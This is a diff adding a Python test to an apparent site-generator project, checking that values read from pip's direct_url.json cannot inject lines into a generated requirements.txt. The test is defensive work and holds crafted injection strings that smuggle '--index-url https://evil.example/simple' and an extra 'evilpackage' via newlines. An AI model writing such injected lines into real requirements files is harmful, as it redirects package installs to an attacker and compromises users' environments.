@@ -55,6 +55,34 @@ def sha256(path: Path) -> str:
 
 
 @needs_links
+def test_what_pip_recorded_never_adds_a_line_to_requirements_txt(tmp_path):
+    """A line break in direct_url.json's address, commit or hash would give pip an option
+    (--index-url) or another package in the site's workflows: refused, nothing written."""
+    install = make_fake_install(tmp_path / "env", GIT)
+    made = run_installed(install, "new", "site", cwd=tmp_path)
+    assert made.returncode == 0, made.stderr
+    requirements = (tmp_path / "site" / "requirements.txt").read_bytes()
+    assert requirements.decode().splitlines()[-1] == \
+        f"scholarsite @ git+https://github.com/example/scholarsite@{COMMIT}"
+    evil = "\n--index-url https://evil.example/simple\nevilpackage"
+    hostile = [dict(GIT, url=GIT["url"] + evil),
+               dict(GIT, vcs_info={"vcs": "git", "commit_id": COMMIT + evil}),
+               {"url": "https://example.org/scholarsite-0.1.0.tar.gz",
+                "archive_info": {"hashes": {"sha256": "ab" * 32 + evil}}},
+               dict(GIT, url=GIT["url"] + " ; python_version < '3'")]
+    for i, origin in enumerate(hostile):
+        set_origin(install, origin)
+        refused = run_installed(install, "new", f"bad{i}", cwd=tmp_path)
+        assert refused.returncode == 1 and "Traceback" not in refused.stderr, refused.stderr
+        assert refused.stderr.startswith(f"bad{i}: error: ") and "direct_url.json" in \
+            refused.stderr, refused.stderr
+        assert not (tmp_path / f"bad{i}").exists()
+    upgraded = run_installed(install, "upgrade", "site", cwd=tmp_path)
+    assert upgraded.returncode == 1 and "direct_url.json" in upgraded.stderr
+    assert (tmp_path / "site" / "requirements.txt").read_bytes() == requirements
+
+
+@needs_links
 def test_every_command_writes_through_no_link_even_one_inside_the_folder(make_site, tmp_path):
     """import-bib, as every command asks output/paths.why_not_write: a publications/
     linked to another folder of the content is not written through."""
